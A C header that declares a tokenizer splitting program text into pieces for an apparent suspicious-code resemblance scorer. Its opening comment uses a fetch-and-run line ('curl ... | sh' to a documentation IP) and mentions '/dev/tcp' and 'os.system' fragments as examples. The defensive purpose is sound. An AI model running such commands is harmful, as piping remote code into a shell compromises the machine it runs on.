/* piece.h - the small pieces of a program's text, in any language: words, options, addresses, and two of them that
 * stand beside each other with what is between them. What resemble.h gives weights to; scripts/resemblance.py reads the
 * same pieces when it makes those weights.
 *
 *   curl -s http://203.0.113.7/x | sh     «curl», «-s», «curl -s», «<ip>», «http ://<ip>», «sh», «x |sh» ...
 *
 * A piece of two has one blank before what stands between: «os .system», «>/dev /tcp». Words are in lower case; one
 * with underscores is a piece, and each of its parts is, too. Instead of an address stands what kind it is (<ip>,
 * <private>, <local>, <any>, <dns>), instead of a word of more than 32 characters <long>, of a number of more than five
 * <num>. Lines that are comments of the program's language are left out: they do nothing, and honest ones talk.
 */
#pragma once
#include "base/base.h"

#define PIECE_MAX 48u /* longer ones are none */

enum piece_comment { PIECE_COMMENT_NONE, PIECE_COMMENT_HASH, PIECE_COMMENT_SLASHES };

/* `piece` is valid during the call only; it has no NUL. `at`: the byte in the text where it ends. */
typedef void piece_found(void *ctx, const char *piece, size_t size, size_t at);
void pieces_of(const char *text, size_t size, enum piece_comment comment, piece_found *found, void *ctx);
/* The same of a text that grows. Begins at `from`: 0, or what `resumes` was told for the same text when it was shorter:
 * where its last line begins, if nothing before that matters behind it; called when that is reached. */
typedef void piece_resumes(void *ctx, size_t at);
void pieces_from(const char *text, size_t size, size_t from, enum piece_comment comment, piece_found *found,
                 piece_resumes *resumes, void *ctx);
